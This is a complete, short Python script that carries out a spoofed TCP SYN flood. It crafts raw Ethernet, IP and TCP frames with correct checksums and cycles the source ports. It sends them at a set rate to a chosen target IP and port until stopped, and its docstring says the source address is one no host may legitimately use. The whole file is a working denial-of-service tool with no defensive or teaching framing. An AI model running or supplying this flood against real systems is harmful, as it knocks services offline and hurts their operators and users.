"""A flood of SYNs at a steady rate: a file that runs alone, so that it starts quickly and costs little.

    python flood.py INTERFACE RATE SOURCE_MAC TARGET_MAC SOURCE_IP TARGET_IP PORT

Sends until it is killed. Every packet comes from another port than the last and has right checksums: what is wrong with
it is only that no host may send it there.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from ipaddress import IPv4Address

PORTS = range(20_000, 21_000)
STEP = 0.001


def syn(macs: bytes, src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    """One frame."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 0x50, 2, 8192, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + src + dst
    return macs + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def checksum(data: bytes) -> int:
    """The Internet checksum of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main(interface: str, rate: str, source: str, target: str, src: str, dst: str, port: str) -> None:
    """Send until killed."""
    macs = b"".join(bytes.fromhex(mac.replace(":", "")) for mac in (target, source))
    frames = [
        syn(macs, IPv4Address(src).packed, IPv4Address(dst).packed, source_port, int(port)) for source_port in PORTS
    ]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((interface, 0))
        began, sent = time.monotonic(), 0
        while True:
            due = int((time.monotonic() - began) * int(rate))
            for number in range(sent, due):
                raw.send(frames[number % len(frames)])
            sent = max(sent, due)
            time.sleep(STEP)


if __name__ == "__main__":
    main(*sys.argv[1:])
